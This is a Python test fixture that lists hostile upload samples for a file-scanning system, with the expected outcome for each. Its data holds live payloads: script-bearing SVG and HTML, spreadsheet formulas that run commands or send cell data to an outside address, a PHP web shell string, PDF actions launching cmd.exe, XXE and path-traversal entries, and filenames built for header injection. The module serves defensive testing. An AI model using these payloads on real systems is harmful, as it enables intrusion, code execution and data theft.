"""Hostile files, each with what must become of it at the doors where people and their systems send files.

`tests/drills/hostile.py` sends each through every door with a real scanner; docs/measurements.md has the table.
"""

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from types import MappingProxyType

from tests.factories import hostile_office as office
from tests.factories import hostile_pdf as pdfs
from tests.factories import hostile_pictures as pictures
from tests.factories.hostile_parts import archive, eicar, program
from tests.factories.hostile_slow import ROWS

DOWNLOAD = "kept as sent; only ever a download that no browser runs"
RENAMED = "a good file under a name that is cleaned"
LIMIT = 40 << 20
SLOW = "slow to look at"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
TABLE = b"Title,Lead\nOne,Two\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file as it is sent. `harmless` is empty where it must be refused, else why it may be kept at all.

    `editors` says the same of the admin's own forms, where an old signed agreement may be kept with a note; None is as
    for everybody.
    """

    group: str
    what: str
    name: str
    make: Callable[[], bytes]
    harmless: str = ""
    editors: str | None = None


def constant(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _group(group: str, *rows: tuple[str, str, Callable[[], bytes] | bytes] | Hostile) -> list[Hostile]:
    made = []
    for row in rows:
        if isinstance(row, Hostile):
            made.append(row)
        else:
            what, name, make = row
            made.append(Hostile(group, what, name, constant(make) if isinstance(make, bytes) else make))
    return made


def kept(
    group: str,
    what: str,
    name: str,
    make: Callable[[], bytes] | bytes,
    harmless: str = DOWNLOAD,
    editors: str | None = None,
) -> Hostile:
    return Hostile(group, what, name, constant(make) if isinstance(make, bytes) else make, harmless, editors)


def acting(what: str, make: Callable[[], bytes], name: str = "agreement.pdf") -> Hostile:
    """A PDF that acts: refused from people; an editor may keep an old signed agreement, as a download with a note."""
    return Hostile("PDF that acts", what, name, make, "", DOWNLOAD)


_JS = pdfs.javascript()
_FORMULAS = (
    b'Title,Lead\n=cmd|\' /C calc\'!A0,+1+1\n@SUM(1+1),"=HYPERLINK(""http://x"")"\n-2+3,=WEBSERVICE("http://x")\n'
)

HOSTILE: tuple[Hostile, ...] = (
    *_group(
        "virus",
        ("EICAR as it is, called a table", "list.csv", eicar),
        ("EICAR as a cell of a table", "cells.csv", lambda: b"a,b\n1," + eicar() + b"\n"),
        ("EICAR in a Word file", "virus.docx", office.with_eicar),
        (
            "EICAR in a Word file in a Word file",
            "inner.docx",
            lambda: office.word(word__embeddings__a_dot_docx=office.with_eicar()),
        ),
        ("EICAR in a PDF", "virus.pdf", partial(pdfs.with_eicar, False)),
        ("EICAR packed in a PDF", "packed.pdf", partial(pdfs.with_eicar, True)),
        ("EICAR attached to a PDF", "attached.pdf", lambda: pdfs.attached(eicar(), "a.txt")),
        ("EICAR in an archive", "virus.zip", lambda: archive({"a.com": eicar()})),
        ("EICAR behind a photograph", "photo.jpg", lambda: pictures.jpeg() + archive({"a.com": eicar()})),
        ("EICAR in an OpenDocument text", "virus.odt", lambda: office.odt({"Pictures/a.png": eicar()})),
        ("EICAR in an Excel file", "virus.xlsx", lambda: office.book({"xl/media/a.png": eicar()})),
    ),
    *_group(
        "not what it says",
        ("a Windows program called PDF", "invoice.pdf", program),
        ("a Linux program called Word", "plan.docx", partial(program, "linux")),
        ("a Mac program called photograph", "photo.jpg", partial(program, "mac")),
        ("a Java class called PDF", "form.pdf", partial(program, "java")),
        ("a program that is a PDF further on", "both.pdf", lambda: program() + pdfs.pdf()),
        ("a shell script called table", "data.csv", b"#!/bin/sh\nrm -rf a,b\n"),
        ("a Java archive called Word", "tool.docx", lambda: archive({"META-INF/MANIFEST.MF": b"Main-Class: A\n"})),
        ("an archive called PDF", "docs.pdf", lambda: archive({"a.pdf": pdfs.pdf()})),
        ("an archive whose first part begins as a PDF", "zip.pdf", lambda: archive({"%PDF-1.7": pdfs.pdf()}, 0)),
        ("an old Office file called Word", "old.docx", office.OLD_OFFICE + bytes(2000)),
        ("a shortcut of Windows", "Agreement.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(200)),
        ("an Internet shortcut", "open.url", b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/run.exe\r\n"),
        ("PostScript called photograph", "photo.jpg", pictures.postscript),
        ("rich text with an object", "letter.docx", b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}"),
        ("a saved mail with a page", "saved.csv", b"MIME-Version: 1.0, a\r\nContent-Type: text/html\r\n\r\n" + HTML),
        ("nothing at all", "empty.pdf", b""),
        kept("not what it says", "only the beginning of a PDF", "cut.pdf", b"%PDF-1.7\n", "", DOWNLOAD),
        kept("not what it says", "half a PDF", "half.pdf", lambda: pdfs.pdf()[:300], "", DOWNLOAD),
        ("half a Word file", "half.docx", lambda: office.plain_word()[:9000]),
        ("half a picture", "half.png", lambda: pictures.png(300, 300)[:30]),
        ("40 MB and one byte", "large.pdf", lambda: pdfs.pdf() + bytes(LIMIT + 1 - len(pdfs.pdf()))),
    ),
    *_group(
        "web pages",
        ("SVG with a script", "drawing.svg", SVG),
        ("SVG called PNG", "logo.png", SVG),
        ("SVG in two bytes a letter, called table", "chart.csv", b"\xff\xfe" + SVG.decode().encode("utf-16-le")),
        ("a page called table", "members.csv", HTML),
        ("a page called PDF", "notes.pdf", HTML),
        ("a page before a PDF", "first.pdf", lambda: HTML + pdfs.pdf()),
        ("a script in a table's last line", "late.csv", TABLE * 500 + b"<script>alert(1)</script>,x\n"),
        (
            "XML that unfolds a billion times, called table",
            "laughs.csv",
            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c,">]><a>&b;</a>',
        ),
        ("a program for Windows Script", "run.csv", b'<job><script language="VBScript">x=1,2</script></job>'),
        kept("web pages", "a page after a PDF", "after.pdf", lambda: pdfs.pdf() + HTML),
        kept(
            "web pages",
            "a page in a PDF's second line",
            "second.pdf",
            lambda: pdfs.pdf(head=b"%PDF-1.7\n%" + HTML + b"\n"),
        ),
        kept(
            "web pages",
            "a script in seven-bit letters, a table",
            "seven.csv",
            b"a,b\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-,x\n",
        ),
        kept("web pages", "formulas in a table", "formulas.csv", _FORMULAS),
    ),
    *_group(
        "two files in one",
        ("a GIF that is a script", "photo.gif", pictures.gif_script),
        ("a GIF that is a script, called JPEG", "photo.jpg", pictures.gif_script),
        ("a Word file behind a program", "sfx.docx", lambda: program() + office.plain_word()),
        ("a Word file with something behind it", "more.docx", lambda: office.plain_word() + HTML),
        kept(
            "two files in one",
            "a PDF with an archive behind it",
            "zip.pdf",
            lambda: pdfs.pdf() + archive({"a.exe": program()}),
        ),
        kept(
            "two files in one",
            "a PDF that is a script as well",
            "js.pdf",
            lambda: pdfs.pdf(head=b"%PDF-1.4\n%*/=1;alert(1);/*\n"),
        ),
        kept("two files in one", "a photograph with a Java archive behind it", "photo.jpg", pictures.jpeg_and_jar),
        kept("two files in one", "a photograph with a page as a comment", "page.jpg", pictures.with_html_comment),
        kept("two files in one", "a PNG with a page behind it", "page.png", lambda: pictures.png(after=HTML)),
        kept(
            "two files in one",
            "a PNG with a program of the web as a comment",
            "php.png",
            lambda: pictures.png(before=pictures.chunk(b"tEXt", b"note\x00<?php system($_GET[0]); ?>")),
        ),
    ),
    *_group(
        "bombs",
        ("a Word file that unpacks to 60 MB of nothing", "flat.docx", office.flat_bomb),
        ("205 MB below the ratio that is refused", "careful.docx", office.careful_bomb),
        ("archives in an archive in a Word file", "nested.docx", office.nested_bomb),
        ("thirty archives in one another", "dolls.docx", office.dolls),
        ("5,000 parts", "crowd.docx", office.crowded),
        ("a table that says 100 bytes of 30 MB", "lies.docx", office.lying_sizes),
        ("1,500 parts that are one and the same", "overlap.docx", office.overlapping),
        ("entities that unfold a billion times in an Excel file", "laughs.xlsx", office.laughs),
        ("100,000 elements in one another", "deep.docx", office.deep_xml),
        ("a PNG of 60,000 by 60,000", "huge.png", partial(pictures.png, 60_000, 60_000, data=b"")),
        ("a JPEG of 65,500 by 65,500", "huge.jpg", pictures.large_jpeg),
        ("a TIFF of 60,000 by 60,000", "huge.tiff", partial(pictures.tiff, 60_000, 60_000)),
        ("a HEIC of 60,000 by 60,000", "huge.heic", pictures.heic),
        ("a PNG with 64 MB of comment", "text.png", pictures.text_bomb),
        ("a PNG with 64 MB of colour profile", "profile.png", partial(pictures.text_bomb, b"iCCP")),
        ("a GIF of 3,000 large frames", "moving.gif", pictures.moving_gif),
        kept("bombs", "a PDF page that unpacks to 100 MB", "zeros.pdf", pdfs.unpacking),
        kept("bombs", "a PDF with 60,000 lists in one another", "deep.pdf", pdfs.nested),
        kept("bombs", "a PDF that is its own page", "loop.pdf", pdfs.looped),
        kept("bombs", "a PNG of 88 million dots in 86 KB", "dots.png", pictures.small_inside_large),
        kept("bombs", "a PNG that moves: 20,000 frames", "moving.png", pictures.moving_png),
        kept("bombs", "a TIFF whose pages lead in a circle", "loop.tiff", partial(pictures.tiff, 10, 10, loop=True)),
        kept("bombs", "a JPEG of 100,000 comments", "comments.jpg", pictures.many_segments),
    ),
    *(kept(SLOW, what, name, make) for what, name, make in ROWS),
    *_group(
        "macros",
        ("Word with macros", "macro.docm", office.docm),
        ("Word with macros, called docx", "macro.docx", office.docm),
        ("Excel with macros", "macro.xlsm", office.xlsm),
        ("Excel with macros, called xlsx", "macro.xlsx", office.xlsm),
        ("macros under another name, found by a relation", "hidden.docx", office.disguised_macros),
        (
            "a macro project that nothing announces",
            "silent.docx",
            lambda: office.word(word__vbaProject_dot_bin=bytes(99)),
        ),
        ("macros of the old kind in Excel", "four.xlsx", lambda: office.book({"xl/macrosheets/sheet1.xml": b"<m/>"})),
        ("a binary Excel file", "binary.xlsx", office.binary_book),
        ("Basic in an OpenDocument text", "basic.odt", lambda: office.odt({"Basic/Standard/Module1.xml": b"<m/>"})),
        ("Python in an OpenDocument text", "python.odt", lambda: office.odt({"Scripts/python/a.py": b"x"})),
        ("a macro called when an OpenDocument text opens", "event.odt", office.odt_with_event),
        ("controls in a Word file", "activex.docx", lambda: office.word(word__activeX__activeX1_dot_bin=bytes(9))),
        (
            "buttons that call programs",
            "ribbon.docx",
            lambda: office.word(customUI__customUI_dot_xml=b'<customUI onLoad="Go"/>'),
        ),
        ("a program wrapped in a Word file", "package.docx", office.packaged_program),
        (
            "a macro file inside a Word file",
            "inner.docx",
            lambda: office.word(word__embeddings__a_dot_docx=office.docm()),
        ),
    ),
    *_group(
        "paths in archives",
        (
            "a part that climbs out",
            "climb.docx",
            lambda: office.changed_archive(office.plain_word(), {"../../etc/passwd": b"x"}),
        ),
        (
            "a part at the root",
            "root.docx",
            lambda: office.changed_archive(office.plain_word(), {"/etc/cron.d/a": b"x"}),
        ),
        (
            "a part with backslashes",
            "back.docx",
            lambda: office.changed_archive(office.plain_word(), {"..\\..\\windows\\a": b"x"}),
        ),
        (
            "a part on a drive",
            "drive.docx",
            lambda: office.changed_archive(office.plain_word(), {"C:/windows/a": b"x"}),
        ),
        (
            "a part with a NUL in its name",
            "nul.docx",
            lambda: office.word(word__media__aXa_dot_png=b"x").replace(b"aXa.png", b"a\x00a.png"),
        ),
        ("two parts of one name", "twice.docx", office.twice_the_same),
        ("a part with two names", "names.docx", office.two_names),
        ("a locked part", "locked.docx", office.locked_word),
    ),
    *_group(
        "fetches or runs",
        (
            "a template from elsewhere",
            "template.docx",
            lambda: office.external("attachedTemplate", "http://198.51.100.7/a.dotm", "word/_rels/settings.xml.rels"),
        ),
        (
            "an object from elsewhere",
            "object.docx",
            lambda: office.external("oleObject", "http://198.51.100.7/a.html!x"),
        ),
        ("a frame from elsewhere", "frame.docx", lambda: office.external("frame", "file://198.51.100.7/a")),
        ("a picture from elsewhere", "pixel.docx", lambda: office.external("image", "http://198.51.100.7/seen.png")),
        ("a page as a part of the text", "chunk.docx", office.alt_chunk),
        ("a command as a field", "dde.docx", office.dde),
        ("a command as a field, in pieces", "pieces.docx", partial(office.dde, True)),
        ("a field that takes in a file", "include.docx", lambda: office.field("INCLUDETEXT file:///etc/passwd")),
        ("an Excel file that fetches when it opens", "connections.xlsx", office.connected_book),
        ("an Excel file that starts a command", "dde.xlsx", office.linked_book),
        ("a cell that starts a command", "cell.xlsx", partial(office.formula_book, "=cmd|'/C calc'!A0")),
        (
            "a cell that sends to elsewhere",
            "send.xlsx",
            partial(office.formula_book, '=WEBSERVICE("http://198.51.100.7/?"&A2)'),
        ),
        ("an entity that reads a file", "xxe.docx", office.xxe),
        ("the same in two bytes a letter", "xxe16.docx", partial(office.xxe, "utf-16")),
        ("Office with a password", "password.docx", office.locked_office),
        kept(
            "fetches or runs",
            "a link to a program",
            "link.docx",
            lambda: office.external("hyperlink", "file://198.51.100.7/a.exe"),
        ),
    ),
    acting("a script when it opens", partial(pdfs.on_opening, _JS)),
    acting("a script among its names", lambda: pdfs.pdf(catalog=f"/Names << /JavaScript << /Names [(a) {_JS}] >> >>")),
    acting("a script when a page opens", lambda: pdfs.pdf(page=f"/AA << /O {_JS} >>")),
    acting("a script when it is saved", lambda: pdfs.pdf(catalog=f"/AA << /WS {_JS} >>")),
    acting("a script behind a link", lambda: pdfs.link(_JS)),
    acting(
        "a script in a field",
        lambda: pdfs.form(
            "6 0 R",
            others={
                6: f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K {_JS} >> >>".encode()
            },
        ),
    ),
    acting(
        "a script after something harmless", lambda: pdfs.on_opening(pdfs.action("Named", f"/N /NextPage /Next {_JS}"))
    ),
    acting("a script whose name is written otherwise", lambda: pdfs.on_opening(pdfs.javascript("Java#53cript"))),
    acting("a script in a packed stream of objects", pdfs.in_an_object_stream),
    acting("a script in a stream that is packed twice", partial(pdfs.in_an_object_stream, twice=True)),
    acting("a script in a stream that is packed twice, and that no table names", pdfs.packed_and_not_named),
    acting("an address that opens behind a list of 200,000 entries", pdfs.behind_a_long_list),
    acting("the word of a lock in a comment, and half a file", pdfs.locked_by_a_comment),
    acting("a script added by a later change", pdfs.changed_later),
    acting(
        "a program when it opens",
        lambda: pdfs.on_opening(pdfs.action("Launch", "/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>")),
    ),
    acting("a program behind a link", lambda: pdfs.link(pdfs.action("Launch", "/F (run.exe)"))),
    acting("a file attached", lambda: pdfs.attached(program(), "run.exe")),
    acting("a file attached to a page", pdfs.attached_to_the_page),
    acting("a film that runs programs", pdfs.rich_media),
    acting(
        "a model in three dimensions",
        lambda: pdfs.annotated(
            "/Subtype /3D /3DD 6 0 R",
            {6: pdfs.stream(b"U3D", "/Type /3D /Subtype /U3D /OnInstantiate 7 0 R"), 7: pdfs.stream(b"x")},
        ),
    ),
    acting("a form of the kind that runs scripts", pdfs.xfa),
    acting(
        "a form that sends to elsewhere", lambda: pdfs.button(pdfs.action("SubmitForm", "/F (http://198.51.100.7/)"))
    ),
    acting(
        "a form that takes data from elsewhere",
        lambda: pdfs.button(pdfs.action("ImportData", "/F (http://198.51.100.7/)")),
    ),
    acting(
        "another file when it opens",
        lambda: pdfs.on_opening(pdfs.action("GoToR", "/F (\\\\\\\\198.51.100.7\\\\a.pdf) /D [0 /Fit]")),
    ),
    acting(
        "an attached file when it opens",
        lambda: pdfs.on_opening(pdfs.action("GoToE", "/T << /R /C /N (a) >> /D [0 /Fit]")),
    ),
    acting(
        "a link to a file of the reader",
        lambda: pdfs.link(pdfs.action("URI", "/URI (file:///c:/windows/system32/calc.exe)")),
    ),
    acting("a link that is a script", lambda: pdfs.link(pdfs.action("URI", "/URI (javascript:alert\\(1\\))"))),
    kept(
        "PDF that acts",
        "a password, and a script below it",
        "locked.pdf",
        lambda: pdfs.locked(f"/OpenAction {_JS}"),
        "",
        DOWNLOAD,
    ),
    kept("PDF that acts", "a password", "protected.pdf", pdfs.locked),
    *(
        kept("tells more than it shows", what, name, make)
        for what, name, make in (
            ("a photograph that says where it was taken", "home.jpg", pictures.placed),
            ("a photograph with a script in its description", "xmp.jpg", pictures.with_xmp),
        )
    ),
    *(
        kept("names", what, name, pdfs.pdf, RENAMED)
        for what, name in (
            ("a name that climbs out", "../../../etc/passwd.pdf"),
            ("a name with a drive", "C:\\windows\\system32\\plan.pdf"),
            ("a name with a NUL", "plan.pdf\x00.exe"),
            ("a name that reads backwards", "plan\u202efdp.exe"),
            ("a name with invisible letters", "pl\u200ban\ufeff.pdf"),
            ("a name of 300 letters", "n" * 300 + ".pdf"),
            ("a name of 255 letters of four bytes", "\U0001f4c4" * 251 + ".pdf"),
            ("a name with a new line and a header", "a\r\nSet-Cookie: b=c.pdf"),
            ("a name with quotation marks", 'a"; filename="b.html.pdf'),
            ("a name with markup", "<img src=x onerror=alert(1)>.pdf"),
            ("a name with two endings", "plan.pdf.exe"),
            ("a name that Windows keeps for itself", "CON.pdf"),
            ("a name that a web server reads", ".htaccess"),
        )
    ),
)

BY_WHAT = MappingProxyType({f"{file.group}: {file.what}": file for file in HOSTILE})
